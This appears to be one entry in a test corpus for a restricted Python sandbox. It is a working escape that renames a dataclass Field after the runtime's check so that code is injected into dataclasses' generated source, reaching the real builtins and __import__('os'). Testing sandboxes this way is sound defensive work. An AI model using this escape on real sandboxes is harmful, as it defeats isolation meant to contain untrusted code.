# technique: the runtime checks every dataclass field name once, when @dataclass is applied, and refuses a rename of a Field from the snippet's frame only (Field.__setattr__ looks at its immediate caller); dataclasses._FIELD_BASE.__init__(self, name) is 'self.name = name', so type(field._field_type).__init__(base_field, text) renames any Field from dataclasses' own frame; done from an enum.property's class lookup (ownerclass._member_map_[name], a snippet __getitem__) while dataclasses collects the subclass's fields, after the check and before _init_fn pastes the base field's name into the source it execs: 'a=EXPR,_return_type=None,**k):#' makes EXPR a default of __create_fn__, run unchecked (json.dumps.__globals__, the real builtins, __import__('os'))
# source: dataclasses code generation (exec of Field.name, 106/144) + stdlib methods called with a foreign self (A.m(obj)) as a setattr from a trusted frame + check-then-use window
# ---- escape check: tests/corpus/escape_check.py, put here by run_corpus.py ----

import dataclasses, enum, json, typing

GOT = []


@dataclasses.dataclass
class Base:
    a: int = dataclasses.field(default=0, init=False, repr=False, compare=False)


def field_kind(self):
    return self._field_type


FIELD_A = dataclasses.fields(Base)[0]
RENAME = type(field_kind(FIELD_A)).__init__  # dataclasses._FIELD_BASE.__init__
ARMED = [None]


class Members:
    # enum.property.__get__(None, cls) looks the name up in cls._member_map_
    def __getitem__(self, key):
        if ARMED[0] is not None:
            RENAME(FIELD_A, ARMED[0])
        raise KeyError(key)


def generated(expr):
    GOT.clear()
    ARMED[0] = 'a=GOT.append(' + expr + '),_return_type=None,**k):#'

    class Sub(Base):
        _member_map_ = Members()
        hook: typing.ClassVar[int] = enum.property(lambda self: 0)

    try:
        dataclasses.dataclass(Sub)
    finally:
        ARMED[0] = None
        RENAME(FIELD_A, 'a')
    return GOT[-1]

attempt('Field renamed by _FIELD_BASE.__init__ -> json.dumps.__globals__',
        lambda: generated('json.dumps.' + dn('globals')))
attempt("... json.dumps.__globals__['__builtins__']",
        lambda: generated('json.dumps.' + dn('globals') + '[' + repr(dn('builtins')) + ']'))
attempt("... __import__('os') from the real builtins",
        lambda: generated('json.dumps.' + dn('globals') + '[' + repr(dn('builtins')) + '][' +
                          repr(dn('import')) + "]('os')"))
